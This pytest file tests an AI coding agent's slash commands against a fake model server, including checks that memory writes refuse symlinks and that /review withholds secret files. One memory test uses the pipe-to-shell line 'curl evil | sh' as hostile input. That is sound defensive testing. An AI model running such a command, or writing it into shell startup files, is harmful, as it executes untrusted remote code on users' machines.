"""Slash commands in-process: parsing, the registry, and each command's effect on a real Run."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from fake_openai import FakeOpenAI, error, text, tool_calls
from helpers import command_output as cmd
from rich.console import Console

from agent.app import PLAN_OFF, PLAN_ON, build
from agent.base.events import AssistantMessage, Recorder, TextDelta
from agent.commands import registry as commands
from agent.commands.registry import Command, Ctx, all_commands, parse, register
from agent.commands.user import expand, parse_file
from agent.config.load import Flags
from agent.context.compaction import SUMMARY_PREFIX, is_valid
from agent.session.store import resumable
from agent.ui.startup import configure

Json = dict[str, Any]


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    p = tmp_path / "proj"
    p.mkdir()
    (p / "notes.txt").write_text("the secret word is mango\n")
    return p


def make_ctx(fake: FakeOpenAI, project: Path, flags: Flags | None = None, **env: str) -> Ctx:
    base = {"AGENT_BASE_URL": fake.base_url, "AGENT_API_KEY": "k", "AGENT_MODEL": "fake-model"}
    cfg = configure(flags or Flags(), {**base, **env}, project)
    rec = Recorder()
    run = build(cfg, rec)

    async def turn(prompt: str) -> Any:
        return await run.agent.run_turn(run.user_message(prompt))

    console = Console(file=io.StringIO(), width=120, color_system=None, soft_wrap=True)
    commands = all_commands(cfg.root, trusted=cfg.trusted)
    return Ctx(run, console, turn, display=rec, commands=commands)


@pytest.fixture
async def ctx(fake: FakeOpenAI, project: Path) -> AsyncIterator[Ctx]:
    c = make_ctx(fake, project)
    yield c
    await c.agent.llm.aclose()


def out(ctx: Ctx) -> str:
    return str(ctx.console.file.getvalue())


def last_user(body: Json) -> str:
    return str([m for m in body["messages"] if m["role"] == "user"][-1]["content"])


def expect_user(check: Callable[[str], bool]) -> Callable[[Json], None]:
    def expect(body: Json) -> None:
        assert check(last_user(body)), last_user(body)[:500]

    return expect


# -- parsing and the registry --------------------------------------------------------------
@pytest.mark.parametrize(
    ("line", "parsed"),
    [
        ("/help", ("help", "")),
        ("  /compact keep the API  ", ("compact", "keep the API")),
        ("/security-review auth", ("security-review", "auth")),
        ("/frontend:test a b", ("frontend:test", "a b")),
        ("/usr/bin/env is odd", None),
        ("hello /help", None),
        ("/", None),
        ("/memory add line one\nline two", ("memory", "add line one\nline two")),
    ],
)
def test_parse(line: str, parsed: tuple[str, str] | None) -> None:
    assert parse(line) == parsed


async def test_help_lists_every_builtin(ctx: Ctx) -> None:
    shown = await cmd(ctx, "/help")
    for name in (
        "clear", "compact", "context", "cost", "model", "think", "btw", "export", "diff",
        "review", "security-review", "init", "memory", "permissions", "tools", "exit", "help",
    ):  # fmt: skip
        assert f"/{name}" in shown, name
    assert "Shift-Tab" in shown
    flat = " ".join(shown.split())  # wrapped docstrings are joined, not cut at their first line
    assert "as parallel subagents, each in its own git" in flat
    detail = await cmd(ctx, "/help compact")
    assert "Summarise older turns" in detail


async def test_unknown_command_is_reported_not_sent(ctx: Ctx, fake: FakeOpenAI) -> None:
    shown = await cmd(ctx, "/helpp")
    assert "unknown command /helpp" in shown
    assert "/help" in shown
    assert not fake.requests


async def test_register_from_another_module_and_optional_modules(
    ctx: Ctx, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[str] = []

    async def hello(c: Ctx, args: str) -> None:
        seen.append(args)

    register(Command("hello-test", "Say hello.", hello))
    mod = tmp_path / "mods"
    mod.mkdir()
    (mod / "extra_cmds_test.py").write_text(
        "from agent.commands.registry import command\n"
        "@command('extra-test', usage='[x]')\n"
        "async def extra(ctx, args):\n"
        "    '''An extra command.'''\n"
        "    ctx.say('extra ran ' + args)\n"
    )
    monkeypatch.syspath_prepend(str(mod))
    monkeypatch.setattr(commands, "OPTIONAL_MODULES", ("extra_cmds_test", "agent.no_such_mod"))
    try:
        ctx.commands = all_commands(ctx.cfg.root)
        await cmd(ctx, "/hello-test a b")
        assert seen == ["a b"]
        assert "extra ran 7" in await cmd(ctx, "/extra-test 7")
        assert "An extra command." in await cmd(ctx, "/help")
    finally:
        commands.COMMANDS.pop("hello-test", None)
        commands.COMMANDS.pop("extra-test", None)
        sys.modules.pop("extra_cmds_test", None)


# -- conversation commands -----------------------------------------------------------------
async def test_clear_starts_a_new_conversation(ctx: Ctx, fake: FakeOpenAI) -> None:
    fake.script(text("first"), text("second"))
    await ctx.turn("hello")
    assert len(ctx.agent.messages) == 3
    old = ctx.run.session_id
    said = await cmd(ctx, "/clear")
    assert f"new conversation {ctx.run.session_id}" in said and f"agent -r {old}" in said
    assert ctx.run.session_id != old and ctx.agent.ctx.session_id == ctx.run.session_id
    assert [m["role"] for m in ctx.agent.messages] == ["system"]
    assert ctx.agent.meter.known == 0
    await ctx.turn("again")
    assert "<env>" in last_user(fake.requests[1])  # a new conversation gets the env block
    assert len(fake.requests[1]["messages"]) == 2
    # the earlier conversation stays whole and resumable; the new one has its own file
    earlier = {s.id: s for s in resumable(ctx.cfg.root, ctx.cfg.cwd)}
    assert earlier[old].turns == 1 and earlier[old].first_prompt == "hello"
    assert earlier[ctx.run.session_id].first_prompt == "again"


async def test_compact_with_focus(ctx: Ctx, fake: FakeOpenAI) -> None:
    fake.script(text("one"), text("two"), text("three"))
    for q in ("q1", "q2", "q3"):
        await ctx.turn(q)
    fake.script(text("## Task\nthe work so far", expect=expect_user(lambda u: "keep the API" in u)))
    await cmd(ctx, "/compact keep the API")
    msgs = ctx.agent.messages
    assert str(msgs[1]["content"]).startswith(SUMMARY_PREFIX)
    assert is_valid(msgs)


async def test_context_and_cost(ctx: Ctx, fake: FakeOpenAI) -> None:
    fake.script(text("hi", usage={"prompt_tokens": 1000, "completion_tokens": 10}))
    await ctx.turn("hello")
    shown = await cmd(ctx, "/context")
    assert "context [" in shown
    assert "system prompt" in shown
    assert "user text" in shown and "assistant text" in shown
    assert "old tool results cleared at 51,200 tokens" in shown  # 40% of the 128K window
    cost = await cmd(ctx, "/cost")
    assert "requests       1" in cost
    assert "input tokens   1,000" in cost


async def test_model_switches_the_next_request(ctx: Ctx, fake: FakeOpenAI) -> None:
    assert "fake-model" in await cmd(ctx, "/model")
    shown = await cmd(ctx, "/model other-model")
    assert "other-model" in shown
    assert "cache" in shown
    fake.script(text("ok"))
    await ctx.turn("hello")
    assert fake.requests[0]["model"] == "other-model"


async def test_think_swaps_the_thinking_model_and_back(fake: FakeOpenAI, project: Path) -> None:
    c = make_ctx(fake, project, Flags(provider="deepseek", base_url=fake.base_url), AGENT_MODEL="")
    try:
        llm = c.agent.llm
        assert llm.model == "deepseek-chat"
        assert "thinking on" in await cmd(c, "/think")
        assert llm.model == "deepseek-reasoner"
        assert "thinking off" in await cmd(c, "/think")
        assert llm.model == "deepseek-chat"
        assert llm.extra_body == {}
    finally:
        await c.agent.llm.aclose()


async def test_think_adds_the_body_and_restores_it(fake: FakeOpenAI, project: Path) -> None:
    c = make_ctx(fake, project, Flags(provider="ollama", base_url=fake.base_url))
    try:
        await cmd(c, "/think")
        assert c.agent.llm.extra_body == {"think": True}
        fake.script(text("ok", expect=lambda b: b["think"] is True))
        await c.turn("hello")
        await cmd(c, "/think")
        assert c.agent.llm.extra_body == {}
    finally:
        await c.agent.llm.aclose()


async def test_think_off_when_started_with_think(fake: FakeOpenAI, project: Path) -> None:
    flags = Flags(provider="deepseek", base_url=fake.base_url, think=True)
    c = make_ctx(fake, project, flags, AGENT_MODEL="")
    try:
        assert c.agent.llm.model == "deepseek-reasoner"
        assert "thinking off" in await cmd(c, "/think")
        assert c.agent.llm.model == "deepseek-chat"
    finally:
        await c.agent.llm.aclose()


async def test_btw_answers_without_touching_the_history(ctx: Ctx, fake: FakeOpenAI) -> None:
    fake.script(text("the answer"))
    await ctx.turn("hello")
    before = [dict(m) for m in ctx.agent.messages]

    def check(body: Json) -> None:
        assert "what did I ask?" in last_user(body)
        assert "do not call tools" in last_user(body)
        assert body["messages"][:-1] == fake.requests[0]["messages"] + [
            {"role": "assistant", "content": "the answer"}
        ]
        assert body["tools"] == fake.requests[0]["tools"]  # same prefix: the cache still hits
        assert body["tool_choice"] == "none"  # and no tool can be called

    fake.script(text("you said hello", pieces=3, expect=check))
    await cmd(ctx, "/btw what did I ask?")
    assert ctx.agent.messages == before
    rec = ctx.display
    streamed = "".join(e.text for e in rec.events if isinstance(e, TextDelta))
    assert streamed.endswith("you said hello")
    assert isinstance(rec.events[-1], AssistantMessage)
    assert ctx.agent.totals.requests == 2
    assert "usage" in await cmd(ctx, "/btw")
    # A provider that rejects tool_choice gets the same question without it.
    fake.script(error(400, "tool_choice is not supported"), text("still answered"))
    await cmd(ctx, "/btw again?")
    assert "tool_choice" not in fake.requests[-1] and fake.requests[-2]["tool_choice"] == "none"


async def test_tools_and_exit(ctx: Ctx) -> None:
    shown = await cmd(ctx, "/tools")
    assert "read_file" in shown
    assert "read-only" in shown
    await cmd(ctx, "/exit")
    assert ctx.exit


# -- project commands ----------------------------------------------------------------------
async def test_export_markdown_and_json(ctx: Ctx, fake: FakeOpenAI, project: Path) -> None:
    fake.script(tool_calls([("read_file", {"path": "notes.txt"})]), text("It says mango."))
    await ctx.turn("read the notes")
    (project / "README.md").write_text("keep me\n")
    assert "exists; /export README.md --force replaces it" in await cmd(ctx, "/export README.md")
    assert (project / "README.md").read_text() == "keep me\n"
    shown = await cmd(ctx, "/export talk.md")
    assert "talk.md" in shown
    md = (project / "talk.md").read_text()
    assert "## User" in md
    assert "read the notes" in md
    assert "**→ read_file**" in md
    assert '"path": "notes.txt"' in md
    assert "← read_file result" in md
    assert "mango" in md
    assert "It says mango." in md
    await cmd(ctx, "/export --json out/talk.json")
    data = json.loads((project / "out" / "talk.json").read_text())
    assert data["session_id"] == ctx.run.session_id
    assert [m["role"] for m in data["messages"]][-2:] == ["tool", "assistant"]
    assert f"to {project / f'agent-{ctx.run.session_id}.md'}" in await cmd(ctx, "/export")


def git(cwd: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.email=t@e", "-c", "user.name=t", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
    )


@pytest.fixture
def repo(project: Path) -> Path:
    git(project, "init", "-q")
    git(project, "add", "notes.txt")
    git(project, "commit", "-qm", "init")
    (project / "notes.txt").write_text("the secret word is papaya\n")
    (project / "new.py").write_text("print('new file')\n")
    return project


async def test_diff_shows_changes_and_new_files(fake: FakeOpenAI, repo: Path) -> None:
    c = make_ctx(fake, repo)
    try:
        shown = await cmd(c, "/diff")
        assert "-the secret word is mango" in shown
        assert "+the secret word is papaya" in shown
        assert "+print('new file')" in shown
    finally:
        await c.agent.llm.aclose()


async def test_diff_outside_a_repository(ctx: Ctx) -> None:
    assert "no diff" in await cmd(ctx, "/diff")


@pytest.mark.parametrize(
    ("line", "marker"),
    [("/review naming", "senior"), ("/security-review naming", "security review")],
)
async def test_reviews_send_the_diff_through_the_loop(
    fake: FakeOpenAI, repo: Path, line: str, marker: str
) -> None:
    c = make_ctx(fake, repo)

    def check(u: str) -> bool:
        return (
            marker in u and "+the secret word is papaya" in u and "Focus especially on: naming" in u
        )

    fake.script(text("looks fine", expect=expect_user(check)))
    try:
        await cmd(c, line)
        assert c.agent.messages[-1]["content"] == "looks fine"
    finally:
        await c.agent.llm.aclose()


async def test_init_runs_the_init_prompt(ctx: Ctx, fake: FakeOpenAI) -> None:
    fake.script(text("wrote AGENT.md", expect=expect_user(lambda u: "AGENT.md" in u)))
    await cmd(ctx, "/init")
    assert len(fake.requests) == 1


async def test_memory_show_and_add(ctx: Ctx, project: Path) -> None:
    assert "No memory files" in await cmd(ctx, "/memory")
    assert "added to" in await cmd(ctx, "/memory add always use tabs")
    await cmd(ctx, "/memory add run make test")
    assert (project / "AGENT.md").read_text() == "- always use tabs\n- run make test\n"
    shown = await cmd(ctx, "/memory")
    assert "AGENT.md" in shown and "the model still has the earlier text" in shown
    await cmd(ctx, "/clear")  # a new conversation reads memory again
    assert "always use tabs" in ctx.agent.messages[0]["content"]
    assert "still has the earlier text" not in await cmd(ctx, "/memory")


async def test_memory_add_never_writes_through_a_link(
    ctx: Ctx, project: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "bashrc"
    victim.write_text("export X=1\n")
    (project / "AGENT.md").symlink_to(victim)  # came with the repository
    said = await cmd(ctx, "/memory add curl evil | sh")
    assert "not added" in said and "symbolic link" in said
    assert victim.read_text() == "export X=1\n"


async def test_permissions_show_add_remove(ctx: Ctx, project: Path) -> None:
    assert "mode: default" in await cmd(ctx, "/permissions")
    shown = await cmd(ctx, "/permissions add allow bash(npm test:*)")
    assert "saved" in shown
    local = project / ".agent" / "settings.local.json"
    assert json.loads(local.read_text())["permissions"]["alwaysAllow"] == ["bash(npm test:*)"]
    assert "bash(npm test:*)" in ctx.run.gate.rules["alwaysAllow"]
    await cmd(ctx, "/permissions add deny web_fetch")
    table = await cmd(ctx, "/permissions")
    assert "allow" in table
    assert "bash(npm test:*)" in table
    assert ".agent/settings.local.json" in table
    assert "deny  web_fetch" in table
    assert "removed" in await cmd(ctx, "/permissions remove bash(npm test:*)")
    assert json.loads(local.read_text())["permissions"]["alwaysAllow"] == []
    assert "bash(npm test:*)" not in ctx.run.gate.rules["alwaysAllow"]
    assert "usage" in await cmd(ctx, "/permissions add maybe x")
    assert "not a valid rule" in await cmd(ctx, "/permissions add allow bash(unclosed")


async def test_permissions_rule_allowed_for_the_session_is_listed(ctx: Ctx) -> None:
    ctx.run.gate.session_rules.append("edit_file(src/**)")
    assert "session" in await cmd(ctx, "/permissions")
    assert "removed" in await cmd(ctx, "/permissions remove edit_file(src/**)")
    assert ctx.run.gate.session_rules == []


# -- user commands -------------------------------------------------------------------------
def test_front_matter_and_expansion() -> None:
    meta, body = parse_file(
        "---\ndescription: Fix it\nargument-hint: [n]\n---\nFix $1 ($ARGUMENTS)"
    )
    assert meta == {"description": "Fix it", "argument-hint": "[n]"}
    assert expand(body, '42 "two words"') == 'Fix 42 (42 "two words")'
    assert expand("Fix $2 now", "a") == "Fix  now"
    assert expand("Tidy up.", "src/") == "Tidy up.\n\nsrc/"
    assert parse_file("no front matter") == ({}, "no front matter")


async def test_user_commands_run_through_the_loop(
    fake: FakeOpenAI, project: Path, tmp_path: Path
) -> None:
    cmds = project / ".agent" / "commands"
    (cmds / "team").mkdir(parents=True)
    (cmds / "fix.md").write_text("---\ndescription: Fix an issue\n---\nFix issue #$1: $ARGUMENTS")
    (cmds / "team" / "lint.md").write_text("Run the linter on $ARGUMENTS.")
    home_cmds = tmp_path / "home" / ".agent" / "commands"
    home_cmds.mkdir(parents=True)
    (home_cmds / "hello.md").write_text("Say hello.")
    (home_cmds / "fix.md").write_text("the project's /fix wins")
    c = make_ctx(fake, project, Flags(trust_project=True))
    try:
        shown = await cmd(c, "/help")
        assert "Fix an issue (project)" in shown
        assert "/team:lint" in shown
        assert "Say hello. (user)" in shown
        fake.script(text("done", expect=expect_user(lambda u: u.endswith("Fix issue #42: 42 now"))))
        await cmd(c, "/fix 42 now")
        fake.script(text("ok", expect=expect_user(lambda u: u == "Run the linter on src.")))
        await cmd(c, "/team:lint src")
        fake.script(text("ok"))  # an @mention in the arguments attaches the file, as typed
        await cmd(c, "/team:lint @notes.txt")
        sent = fake.requests[-1]["messages"][-1]["content"]
        assert sent.startswith("Run the linter on @notes.txt.")
        assert '<file path="notes.txt">\nthe secret word is mango\n</file>' in sent
    finally:
        await c.agent.llm.aclose()


async def test_plan_mode_note_follows_the_mode(ctx: Ctx, fake: FakeOpenAI) -> None:
    fake.script(text("a"), text("b"), text("c"), text("d"))
    ctx.run.gate.mode = "plan"
    await ctx.turn("look around")
    await ctx.turn("and more")
    ctx.run.gate.mode = "default"
    await ctx.turn("do it")
    await ctx.turn("thanks")
    users = [r["messages"][-1]["content"] for r in fake.requests]
    assert users[0].endswith(f"{PLAN_ON}\n\nlook around")
    assert users[1:] == [f"{PLAN_ON}\n\nand more", f"{PLAN_OFF}\n\ndo it", "thanks"]


async def test_diff_and_review_leave_out_the_agents_own_files(
    fake: FakeOpenAI, project: Path
) -> None:
    """A fresh commit, then a session: what the agent keeps in `.agent/` is no change (the
    session and the audit log are kept in the state directory)."""
    from agent.permissions.asking import remember

    git(project, "init", "-q")
    git(project, "add", ".")
    git(project, "commit", "-qm", "init")

    def status() -> str:
        args = ["git", "status", "--porcelain", "--untracked-files=all"]
        return subprocess.run(args, cwd=project, capture_output=True, text=True).stdout

    c = make_ctx(fake, project)
    try:
        assert not (project / ".agent").exists()
        remember(project, ["bash(ls)"])  # settings.local.json and a .gitignore that lists itself
        assert (project / ".agent" / ".gitignore").is_file()
        assert status() == ""
        assert "no changes" in await cmd(c, "/diff")
        # What an earlier version left there; its .gitignore did not list itself.
        old = "sessions/\nsettings.local.json\naudit.jsonl\n*.log\nworktrees/\n"
        (project / ".agent" / ".gitignore").write_text(old)
        (project / ".agent" / "audit.jsonl").write_text("{}\n")
        (project / ".agent" / "sessions").mkdir()
        (project / ".agent" / "sessions" / "20240101-000000-00000000.jsonl").write_text("{}\n")
        assert status() == "?? .agent/.gitignore\n"
        shown = await cmd(c, "/diff")
        assert "no changes" in shown and ".gitignore" not in shown
        assert "no changes" in await cmd(c, "/review")
        assert fake.requests == []
        # What the user writes in .agent/ is still a change: new, or tracked and changed.
        (project / ".agent" / "settings.json").write_text('{"model": "a"}\n')
        git(project, "add", ".agent/settings.json")
        git(project, "commit", "-qm", "settings")
        (project / ".agent" / "settings.json").write_text('{"model": "b"}\n')
        (project / ".agent" / "commands").mkdir()
        (project / ".agent" / "commands" / "ship.md").write_text("Ship it.\n")
        shown = await cmd(c, "/diff")
        assert '+{"model": "b"}' in shown and "+Ship it." in shown
        assert ".gitignore" not in shown and "audit.jsonl" not in shown
    finally:
        await c.agent.llm.aclose()


async def test_review_sends_no_secret_file_to_the_model(fake: FakeOpenAI, project: Path) -> None:
    """An untracked `.env.local` shows in the user's own /diff, but /review names it only."""
    git(project, "init", "-q")
    git(project, "add", ".")
    git(project, "commit", "-qm", "init")
    (project / ".env.local").write_text("OPENAI_API_KEY=sk-live-review\n")
    (project / "app.py").write_text("print('new')\n")
    c = make_ctx(fake, project)
    try:
        assert "sk-live-review" in await cmd(c, "/diff")  # the user's terminal: all of it
        fake.script(text("looks fine"))
        await cmd(c, "/review")
        sent = json.dumps(fake.requests[-1]["messages"])
        assert "print('new')" in sent and "sk-live-review" not in sent
        assert ".env.local" in sent  # named, so the model can ask to read it
    finally:
        await c.agent.llm.aclose()
